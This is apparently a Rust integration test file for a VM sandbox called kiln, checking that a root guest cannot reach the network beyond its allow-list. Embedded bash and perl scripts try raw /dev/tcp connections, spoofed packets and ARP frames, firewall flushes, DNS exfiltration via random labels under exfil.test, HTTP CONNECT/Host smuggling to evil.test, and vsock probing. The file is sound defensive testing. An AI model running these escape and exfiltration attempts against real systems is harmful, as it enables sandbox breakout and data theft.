//! A root guest that wants out, against the whole of kiln: real machines, and an internet of the test's own that writes down whatever
//! comes to it. Two network namespaces with a cable between them: kiln in one; in the other every address there is, with a hostile
//! name server and servers that answer on the usual ports.

mod internet;

use std::collections::BTreeSet;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::annex::Annex;
use crate::confinement::{is_bounded, is_confined, vmm_of};
use crate::serve::{SMALL, serve, serve_as};
use crate::support::{Said, Started, free_port, path, said};

use internet::Internet;

/// Tries that need no name. Each prints what became of it; whatever leaves the machine is counted outside.
const NAMELESS: &str = r#"
tcp() { (timeout 2 bash -c "exec 3<>/dev/tcp/$1/$2 && head -c 5 <&3" 2>/dev/null | grep -q hello && echo "tcp $1:$2 REACHED") || true; }
tcp 11.1.0.10 80; tcp 11.1.0.10 443; tcp 8.8.8.8 53; tcp 169.254.169.254 80; tcp 10.0.0.1 22; tcp 198.18.0.2 80; tcp 198.19.255.255 443
tcp 2606:4700:4700::1111 443; tcp fe80::1 80; tcp ::ffff:11.1.0.10 80; tcp 64:ff9b::b01:a 80
# UDP, QUIC's port, ICMP, packets with another's source address, ARP and raw frames on every card there is.
perl -MSocket -e '
  socket(my $u, PF_INET, SOCK_DGRAM, 17);
  for my $to (["8.8.8.8", 53], ["11.1.0.10", 443], ["11.1.0.10", 123], ["255.255.255.255", 67], ["224.0.0.251", 5353]) {
    setsockopt($u, SOL_SOCKET, SO_BROADCAST, 1);
    send($u, "x" x 400, 0, sockaddr_in($to->[1], inet_aton($to->[0])));
  }
  socket(my $i, PF_INET, SOCK_RAW, 1);
  send($i, pack("C2n3", 8, 0, 0xf7ff, 0, 0), 0, sockaddr_in(0, inet_aton("11.1.0.10")));
  socket(my $r, PF_INET, SOCK_RAW, 255);
  my $ip = pack("C2n3C2na4a4", 0x45, 0, 28, 1, 0, 64, 17, 0, inet_aton("11.0.0.9"), inet_aton("11.1.0.10")) . pack("n4", 5, 443, 8, 0);
  send($r, $ip, 0, sockaddr_in(0, inet_aton("11.1.0.10")));
  for my $index (1 .. 8) {
    socket(my $p, 17, SOCK_RAW, 0x0300);
    my $frame = "\xff" x 6 . "\x02" x 6 . "\x08\x06" . "\0" x 28;
    send($p, $frame, 0, pack("SnlSCCa8", 17, 0x0300, $index, 1, 0, 6, "\xff" x 8));
  }'
# Its own addresses, routes, cards, filters and resolver instead of those it was given.
ip addr add 11.0.0.2/8 dev lo; ip route replace default dev lo; ip link add up0 type dummy; ip link set up0 up; ip addr add 10.9.9.9/8 dev up0
ip route replace default via 10.0.0.1 dev up0; nft flush ruleset; iptables -F; ip rule flush; ip rule add from all lookup main
tcp 11.1.0.10 80; tcp 11.1.0.10 443
mount -t tmpfs none /mnt; for at in 8.8.8.8 11.0.0.1 198.18.0.1; do
  echo "nameserver $at" > /mnt/resolv.conf; mount --bind /mnt/resolv.conf /etc/resolv.conf || cp /mnt/resolv.conf /etc/resolv.conf
  timeout 2 getent ahosts "$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').exfil.test" && echo "dns $at ANSWERED"
  timeout 2 getent ahosts good.test && echo "dns $at ANSWERED"
done
# A namespace of its own changes nothing.
unshare --net sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c "exec 3<>/dev/tcp/11.1.0.10/80"' 2>/dev/null && echo "netns REACHED"
for module in virtio_net e1000 tun tap veth; do modprobe "$module" 2>/dev/null; done
ls /sys/class/net | grep -vxE 'lo|up0|dummy0' | sed 's/$/ CARD/'
echo over
"#;

/// What tries with names are made of.
const TALK: &str = r#"
# What a server says first, after sending something.
talk() { timeout 10 bash -c 'exec 3<>"/dev/tcp/$1/$2" && printf "%b" "$3" >&3 && timeout 5 head -c 5 <&3' bash "$1" "$2" "$3" 2>/dev/null | tr -d '\n'; }
try() { echo "$1:$2 $(talk "$1" "$2" "${3:-x}")"; }
# How many connections a server greets that stay open until all were tried.
many() {
  local greeted=0 fd n
  for n in $(seq 12); do
    exec {fd}<>/dev/tcp/good.test/8080 && [ "$(timeout 5 head -c 5 <&"$fd")" = hello ] && greeted=$((greeted + 1))
  done 2>/dev/null
  echo "$greeted"
}
# Those of a try before may be on their way out.
at_once() {
  local greeted n
  for n in $(seq 5); do
    greeted=$(many)
    echo "at once $greeted"
    [ "$greeted" -lt 8 ] || return 0
  done
}
"#;

/// Most connections at once that the operator grants in the tests with names: fewer than are tried.
const AT_ONCE: u32 = 8;

/// Tries with names, of which the policy allows some.
const NAMED: &str = r#"
try good.test 8080
try good.test 22
try x.good.test 8080
try secret-in-a-label.good.test 8080
try good.test.evil.test 8080
try rebind.test 8080
try rebind.test 8080
try mixed.test 8080
for name in inside meta own placed mapped translated chain loop; do try $name.test 8080; done
try web.test 80 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
try web.test 80 'CONNECT evil.test:443 HTTP/1.1\r\nHost: web.test\r\n\r\n'
try web.test 80 'GET http://evil.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n'
try web.test 443 'not a TLS client hello'
try web.test 80 'GET / HTTP/1.1\r\nHost: web.test\r\n\r\n'
at_once
echo over
"#;

/// The same once more, shorter, in a machine that stayed.
const STAYED: &str = r#"
try good.test 8080
try own.test 8080
try placed.test 8080
try x.good.test 8080
at_once
echo over
"#;

/// A machine that is looked for: it says who it is, greets whoever comes to any address it has, and itself once.
const SOUGHT: &str = r#"
perl -MSocket -e '
  socket(my $s, PF_INET, SOCK_STREAM, 6); setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1);
  bind($s, sockaddr_in(8080, INADDR_ANY)) or die; listen($s, 9); $| = 1; print "listening\n";
  while (accept(my $c, $s)) { print "VISITED\n"; syswrite($c, "hello\n"); close($c) }' &
until exec 3<>/dev/tcp/127.0.0.1/8080; do sleep 0.1; done 2>/dev/null
read -r word <&3
echo "found $word $(hostname) $(getent ahostsv4 good.test | { read -r at _; echo "$at"; })"
wait
"#;

/// Another machine's root looks for it: by every name, at its made-up address, with cards and sockets of its own.
const SEEKING: &str = r#"
tcp() { (timeout 2 bash -c "exec 3<>/dev/tcp/$1/$2 && head -c 5 <&3" 2>/dev/null | grep -q hello && echo "tcp $1:$2 REACHED") || true; }
exec 2>/dev/null; id=${1%-*-run}
for name in "$1" "$id" "kiln-$1" "$1.kiln.internal" "$id.kiln.internal" machine.kiln.internal host.kiln.internal worker.kiln.internal; do
  getent hosts "$name" && echo "$name KNOWN"
  tcp "$name" 8080
done
ip link add up0 type dummy; ip link set up0 up; ip addr add 198.18.0.9/15 dev up0; ip route replace default dev up0; nft flush ruleset
for at in "$2" 198.18.0.1 198.18.0.2 198.18.0.3 198.18.0.9 10.0.2.2 10.0.2.15 169.254.0.1 255.255.255.255; do tcp "$at" 8080; done
# What hypervisors have for guests to talk, or to share memory (ivshmem).
modprobe vsock; modprobe vmw_vsock_virtio_transport; modprobe vsock_loopback
perl -MSocket -e 'for my $cid (0 .. 64) { socket(my $v, 40, SOCK_STREAM, 0) or last;
  connect($v, pack("SSLLx4", 40, 0, 8080, $cid)) and print "vsock $cid REACHED\n" }'
cat /sys/class/virtio-ports/*/name | grep -vx kiln.channel | sed 's/$/ PORT/'
grep -lx 0x1110 /sys/bus/pci/devices/*/device | sed 's/$/ SHARED/'
echo over
"#;

/// kiln in the namespace of this world, with its resolver.
fn run(world: &Internet, annex: &Annex, args: &[&str]) -> Said {
    said(command(world, annex, args))
}

fn command(world: &Internet, annex: &Annex, args: &[&str]) -> Command {
    let mut command = Command::new("nsenter");
    let net = format!("--net=/run/netns/{}", world.near());
    command
        .args([&net, "--", "unshare", "--mount", "--propagation", "private"])
        .args([
            "sh",
            "-euc",
            r#"mount --bind "$0" /etc/resolv.conf; exec "$@""#,
        ])
        .arg(world.resolver())
        .arg(path(&annex.program))
        .args(args)
        .env("KILN_HOME", &annex.home)
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    command
}

/// A server with a worker in that namespace; its private socket.
fn server(world: &Internet, annex: &Annex) -> (Started, String) {
    let args = ["serve", "--with-worker"];
    serve_as(annex, || Started::of(command(world, annex, &args)))
}

#[test]
fn no_packet_of_a_root_guest_leaves_without_a_name() {
    let Some(annex) = Annex::open() else { return };
    let Some(world) = Internet::open(1) else {
        return;
    };
    // So that nothing of kiln's own start is counted.
    run(&world, &annex, &["run", "--no-source", "--", "true"]).exits(0);
    let before = world.packets();
    let said = run(
        &world,
        &annex,
        &["run", "--no-source", "--", "bash", "-c", NAMELESS],
    )
    .exits(0);
    assert_eq!(said.out, "over\n", "{said:?}");
    assert_eq!(world.packets(), before, "{:?}", world.seen());
    // A machine with a network, of a server's worker.
    let (server, at) = server(&world, &annex);
    let allowed = [
        "--server",
        at.as_str(),
        "run",
        "--no-source",
        "--allow",
        "good.test:8080/raw",
        "--",
        "bash",
        "-c",
        NAMELESS,
    ];
    let said = annex.run(&allowed).exits(0);
    server.signal("INT");
    server.end().exits(0);
    assert!(said.out.ends_with("over\n"), "{said:?}");
    let tried = said
        .out
        .lines()
        .filter(|line| line.contains("REACHED") || line.contains("CARD"));
    assert_eq!(tried.count(), 0, "{said:?}");
    let seen = world.seen();
    assert!(seen.opened.is_empty() && seen.sent.is_empty(), "{seen:?}");
    assert!(
        !seen.asked.iter().any(|name| name.contains("exfil")),
        "{seen:?}"
    );
    annex.is_clear();
}

/// What came of [`NAMED`], on the machine and outside.
fn only_what_may_was_reached(world: &Internet, said: &Said, raw: &[String]) {
    // Servers here speak first, so that web.test's greets whoever was let through to it, whatever was sent there.
    let greeted = |line: &&str| line.ends_with(" hello") && !line.starts_with("web.test:");
    let reached: Vec<&str> = said.out.lines().filter(greeted).collect();
    assert_eq!(
        reached,
        [
            "good.test:8080 hello",
            "rebind.test:8080 hello",
            "mixed.test:8080 hello"
        ],
        "{said:?}"
    );
    let seen = world.seen();
    // Names that no rule has were asked nowhere: a label is no tunnel.
    let allowed = |name: &String| {
        name == "ipv4only.arpa"
            || raw.iter().any(|rule| rule.starts_with(&format!("{name}:")))
            || name == "web.test"
    };
    assert!(seen.asked.iter().all(allowed), "{seen:?}");
    // Only addresses that the first answers gave and the floor lets pass, and not a byte for another host.
    let opened: BTreeSet<&str> = seen.opened.iter().map(String::as_str).collect();
    let may = [
        "11.1.0.10:8080",
        "11.1.0.11:8080",
        "11.1.0.12:8080",
        "11.1.0.13:80",
        "11.1.0.13:443",
    ];
    assert!(opened.is_subset(&may.into()), "{opened:?}");
    let asked = "GET / HTTP/1.1\r\nHost: web.test\r\n\r\n";
    let web: Vec<&String> = seen.sent.iter().filter(|text| *text != "x").collect();
    assert_eq!(web, [asked], "{seen:?}");
    as_many_at_once_as_granted(said);
}

/// As many, and never one more.
fn as_many_at_once_as_granted(said: &Said) {
    let counts = said.out.lines().filter_map(|line| {
        let count = line.strip_prefix("at once ")?;
        Some(count.parse::<u32>().expect("a count"))
    });
    let counts: Vec<u32> = counts.collect();
    assert_eq!(counts.last(), Some(&AT_ONCE), "{said:?}");
    assert!(counts.iter().all(|count| *count <= AT_ONCE), "{said:?}");
}

/// A machine that stays has its keeper's gateway: the same rules, no more connections, and the same floor, to which this host's own addresses
/// belong and what its operator says of it.
fn its_keeper_holds_it_to_the_same(world: &Internet, annex: &Annex) {
    let listed = annex.run(&["machine", "list", "--json"]).exits(0);
    let line = listed.out.lines().next().expect("a machine");
    let machine: Value = serde_json::from_str(line).expect("JSON");
    let id = machine["id"].as_str().expect("an id");
    let script = [TALK, STAYED].concat();
    let asked = annex.run(&["exec", id, "--", "bash", "-c", &script]);
    let asked = asked.exits(0);
    let tried: Vec<&str> = asked.out.lines().map(str::trim_end).take(4).collect();
    assert_eq!(
        tried,
        [
            "good.test:8080 hello",
            "own.test:8080",
            "placed.test:8080",
            "x.good.test:8080"
        ],
        "{asked:?}"
    );
    as_many_at_once_as_granted(&asked);
    annex.run(&["machine", "rm", id]).exits(0);
    let told = annex.run(&["--json", "job", "egress", id]).exits(0).out;
    let lines = told.lines().map(serde_json::from_str);
    let lines: Vec<Value> = lines.collect::<Result<_, _>>().expect("JSON");
    for (name, address) in [("own.test", "11.0.0.2"), ("placed.test", "11.1.0.14")] {
        let found = lines.iter().any(|line| {
            line["machine"] == true
                && line["host"] == name
                && line["code"] == "address_not_allowed"
                && line["addresses"] == json!([address])
        });
        assert!(found, "{name}: {told}");
    }
    let opened = world.seen().opened;
    assert!(
        !opened.iter().any(|at| at.starts_with("11.1.0.14:")),
        "{opened:?}"
    );
}

#[test]
fn names_lead_only_where_the_policy_and_the_floor_let_them() {
    // A place of the installation that nothing here can know.
    let own = "[network]\nown = [\"11.1.0.14\"]\n";
    let Some(mut annex) = Annex::open_with(own) else {
        return;
    };
    annex.grants(&format!("[tenant.local.max]\nconnections = {AT_ONCE}\n"));
    let (Some(world), Some(other)) = (Internet::open(2), Internet::open(3)) else {
        return;
    };
    let mut args = vec!["run", "--no-source"];
    let raw = [
        "good",
        "rebind",
        "mixed",
        "inside",
        "meta",
        "own",
        "placed",
        "mapped",
        "translated",
        "chain",
        "loop",
    ];
    let raw = raw.map(|name| format!("{name}.test:8080/raw"));
    for rule in raw.iter().map(String::as_str).chain(["web.test:80,443"]) {
        args.extend(["--allow", rule]);
    }
    let script = [TALK, NAMED].concat();
    args.extend(["--", "bash", "-c", &script]);
    let stays = [&args[..1], &["--keep=10m"], &args[1..]].concat();
    let said = run(&world, &annex, &stays).exits(0);
    only_what_may_was_reached(&world, &said, &raw);
    every_refusal_is_told(&annex);
    its_keeper_holds_it_to_the_same(&world, &annex);
    // So is that of a server's worker, in a world that has not answered yet.
    let (server, at) = server(&other, &annex);
    let said = annex
        .run(&[&["--server", at.as_str()], &args[..]].concat())
        .exits(0);
    only_what_may_was_reached(&other, &said, &raw);
    every_refusal_is_told(&annex);
    server.signal("INT");
    server.end().exits(0);
    annex.is_clear();
}

fn every_refusal_is_told(annex: &Annex) {
    let told = annex.run(&["job", "egress", "--json"]).exits(0).out;
    for name in [
        "x.good.test",
        "inside.test",
        "own.test",
        "placed.test",
        "meta.test",
        "chain.test",
    ] {
        let row = "\"event\":\"refused\"";
        let found = told
            .lines()
            .any(|line| line.contains(row) && line.contains(&format!("\"{name}\"")));
        assert!(found, "{name}: {told}");
    }
}

#[test]
fn two_machines_of_one_worker_do_not_find_each_other() {
    let Some(annex) = Annex::open() else { return };
    let (server, at) = serve(&annex, free_port());
    let run = [&["--server", at.as_str(), "run", "--no-source"], &SMALL[..]].concat();
    let bash = |more: &[&str], script: &str| {
        let words = ["--", "bash", "-c", script, "bash"];
        [&run[..], more, &words[..]]
            .concat()
            .into_iter()
            .map(str::to_owned)
            .collect::<Vec<String>>()
    };
    let start = |words: &[String]| {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        annex.start(&words)
    };
    let mut sought = start(&bash(&["--allow", "good.test:8080/raw"], SOUGHT));
    let mut said = sought.until_it_prints("found ");
    said += &sought.until_it_prints("\n");
    let who: Vec<&str> = said
        .rsplit("found ")
        .next()
        .expect("a line")
        .split_whitespace()
        .collect();
    let ["hello", name, address] = who[..] else {
        panic!("{said}")
    };
    assert!(address.starts_with("198.1"), "{said}");
    // A server's machine is confined as any.
    let process = vmm_of(&annex, &server, "-run");
    is_confined(&process);
    if rustix::process::geteuid().is_root() {
        is_bounded(&process, 512 << 20);
    }
    // Both live at once, with and without a network of its own.
    for more in [&[][..], &["--allow", "other.test:8080/raw"]] {
        let mut words = bash(more, SEEKING);
        words.extend([name.to_owned(), address.to_owned()]);
        let found = start(&words).end().exits(0);
        assert_eq!(found.out, "over\n", "{found:?}");
    }
    sought.signal("INT");
    let after = sought.end().exits(130);
    let visits = (said + &after.out).matches("VISITED").count();
    assert_eq!(visits, 1, "its own: {after:?}");
    server.signal("INT");
    server.end().exits(0);
    annex.is_clear();
}
